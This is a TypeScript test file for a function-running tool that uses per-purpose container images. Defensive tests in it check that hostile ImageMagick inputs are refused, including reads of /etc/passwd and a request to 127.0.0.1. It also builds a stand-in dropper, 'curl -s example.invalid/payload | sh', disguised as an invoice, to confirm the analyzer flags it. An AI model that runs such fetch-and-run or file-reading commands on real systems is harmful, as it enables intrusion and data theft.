/**
 * Goal: every image by function does what it is for. Method: the examples as they are, through the command line, each
 * in a real clone of its image, with results that were computed elsewhere.
 */
import assert from 'node:assert/strict';
import { execFile } from 'node:child_process';
import { createHash } from 'node:crypto';
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { test } from 'node:test';
import { crc32, deflateSync } from 'node:zlib';
import { home } from './rig.ts';

const root = join(import.meta.dirname, '../..');
const example = (...path: string[]): string => join(root, 'examples', ...path);

interface Ended {
  readonly code: number;
  readonly out: string;
  readonly err: string;
}

async function mayfly(...args: string[]): Promise<Ended> {
  return await new Promise((resolve) => {
    const options = { env: { ...process.env, MAYFLY_HOME: home }, timeout: 200_000 };
    execFile(join(root, 'bin/mayfly'), ['run', ...args], options, (error, out, err) => {
      resolve({ code: Number(error?.code ?? 0), out, err });
    });
  });
}

async function result(...args: string[]): Promise<unknown> {
  const { code, out, err } = await mayfly(...args);
  assert.equal(code, 0, err);
  return JSON.parse(out);
}

test('image: chosen by the content of its event, a photo is resized', async () => {
  const [handler, event] = [example('photo', 'handler.py'), example('photo', 'event.json')];
  const found = await result('--handler', handler, '--event', event) as { jpeg: string };
  const { jpeg, ...rest } = found;
  assert.deepEqual(rest, {
    from: { format: 'PNG', width: 96, height: 64 }, to: { format: 'JPEG', width: 32, height: 21 },
  });
  const bytes = Buffer.from(jpeg, 'base64');
  assert.deepEqual([bytes.subarray(0, 3).toString('hex'), bytes.subarray(-2).toString('hex')], ['ffd8ff', 'ffd9']);
});

test('image: what is no photo, starts programs, reads files or claims to be huge is refused by policy', async () => {
  const folder = await mkdtemp(join(tmpdir(), 'mayfly-functions-'));
  const script = join(folder, 'refused.sh');
  const convert = (from: string): string => `said=$(convert ${from} png:/tmp/o.png 2>&1) || echo "$said" | head -1\n`;
  await writeFile(script, [
    '#!/bin/sh\n',
    convert('mvg:/function/refused.sh'), convert('svg:/function/refused.sh'), convert('pdf:/function/refused.sh'),
    convert('https://127.0.0.1/x.png'), convert('text:/etc/passwd'), convert('label:@/etc/passwd'),
    // The second differs from the first by its width alone: it is the limit that refuses.
    `echo ${wide(20_000).toString('base64')} | base64 -d >/tmp/wide.png\n`,
    `echo ${wide(16_000).toString('base64')} | base64 -d >/tmp/less.png\n`,
    convert('png:/tmp/wide.png'),
    convert('png:/tmp/less.png').replace('o.png', 'less-o.png'),
    'test ! -e /tmp/o.png && test -s /tmp/less-o.png && echo as expected\n',
  ].join(''), { mode: 0o755 });
  try {
    const { code, out, err } = await mayfly('--image', 'image', '--raw', '--exec', script);
    assert.equal(code, 0, err);
    const lines = out.trim().split('\n');
    assert.equal(lines.length, 8, out);
    for (const line of lines.slice(0, 6)) assert.match(line, /NotAuthorized/, out);
    assert.match(lines[6] ?? '', /NoImagesDefined|exceeds/i, out);
    assert.equal(lines[7], 'as expected', out);
  } finally {
    await rm(folder, { recursive: true, force: true });
  }
});

test('document: chosen by the content of its event, a PDF is checked and read', async () => {
  const [handler, event] = [example('pdf', 'handler.py'), example('pdf', 'event.json')];
  assert.deepEqual(await result('--handler', handler, '--event', event), {
    sound: true, pages: 1, text: 'Invoice 2026-11\nTotal: 42.00 EUR',
  });
});

const totals = [{ item: 'coffee', amount: 1 }, { item: 'tea', amount: 5 }];

test('database: chosen by the class, rows are inserted and read by sqlite3, and psql is there', async () => {
  const [handler, event] = [example('rows', 'handler.py'), example('rows', 'event.json')];
  const found = await result('--class', 'database', '--handler', handler, '--event', event) as { psql: string };
  assert.match(found.psql, /^psql \(PostgreSQL\) \d+/);
  assert.deepEqual(found, { totals, psql: found.psql });
});

test('analysis: chosen by the content, an archive with a member whose hash is listed is malicious', async () => {
  const folder = example('archive');
  const [handler, event] = [join(folder, 'handler.py'), join(folder, 'event.json')];
  const order = ['--handler', handler, '--code', folder, '--event', event];
  const found = await result(...order) as { members: { name: string }[] };
  const sha256 = (text: string): string => createHash('sha256').update(text).digest('hex');
  const dropper = '#!/bin/sh\n# A harmless stand-in for a dropper.\ncurl -s example.invalid/payload | sh\n';
  assert.deepEqual(found, {
    type: 'application/zip',
    verdict: 'malicious',
    members: [
      {
        name: 'invoice/open-me.sh', type: 'text/x-shellscript', sha256: sha256(dropper),
        listed: 'harmless-dropper-example', rules: ['download_and_run'], strings: dropper.trim().split('\n'),
      },
      {
        name: 'invoice/readme.txt', type: 'text/plain', sha256: sha256('Please see the attached invoice.\n'),
        listed: '', rules: [], strings: ['Please see the attached invoice.'],
      },
    ],
  });
});

test('shell: chosen by the threat, the strict variant runs an executable; a rule chooses its own', async () => {
  const folder = await mkdtemp(join(tmpdir(), 'mayfly-choice-'));
  const rules = join(folder, 'r.yaml');
  const rule = (image: string): string =>
    `rulesVersion: 1\nrules:\n- { name: r, when: event.data.n == 1.0, then: { image: ${image} } }\n`;
  const order = ['--exec', example('shell', 'count.sh'), '--json'];
  const imageOf = async (...more: string[]): Promise<string> => {
    const { out, err } = await mayfly(...order, ...more);
    const { profile } = JSON.parse(out) as { profile: { image: { name: string }; reasons: { because: string }[] } };
    return `${profile.image.name} ${profile.reasons.some(({ because }) => /level high|rule r/.test(because))} ${err}`;
  };
  try {
    assert.match(await imageOf('--score', '65'), /^shell-strict true/);
    await writeFile(rules, rule('shell-strict'));
    assert.match(await imageOf('--rules', rules, '--data', '{"n": 1}'), /^shell-strict true/);
    await writeFile(rules, rule('nowhere'));
    const { code, err } = await mayfly('--exec', example('shell', 'count.sh'), '--rules', rules);
    assert.deepEqual([code, /E_IMAGE_UNKNOWN.*\n.*rule r \(.*r\.yaml:3\).*nowhere/.test(err)], [2, true], err);
  } finally {
    await rm(folder, { recursive: true, force: true });
  }
});

test('shell: jq transforms an event, and curl is there', async () => {
  const [script, event] = [example('jq', 'totals.sh'), example('jq', 'event.json')];
  assert.deepEqual(await result('--image', 'shell', '--exec', script, '--event', event), totals);
  const { out, err } = await mayfly('--image', 'shell', '--raw', '--program', '/usr/bin/curl', '--', '--version');
  assert.match(out, /^curl \d+/, err);
});

/** A PNG of `width` by 1 pixels, sound but for its size. */
function wide(width: number): Buffer {
  const chunk = (type: string, data: Buffer): Buffer => {
    const [length, sum] = [Buffer.alloc(4), Buffer.alloc(4)];
    const body = Buffer.concat([Buffer.from(type), data]);
    length.writeUInt32BE(data.length);
    sum.writeUInt32BE(crc32(body));
    return Buffer.concat([length, body, sum]);
  };
  const header = Buffer.from([0, 0, 0, 0, 0, 0, 0, 1, 8, 0, 0, 0, 0]);
  header.writeUInt32BE(width);
  const signature = Buffer.from('89504e470d0a1a0a', 'hex');
  const pixels = deflateSync(Buffer.alloc(width + 1));
  return Buffer.concat([signature, chunk('IHDR', header), chunk('IDAT', pixels), chunk('IEND', Buffer.alloc(0))]);
}
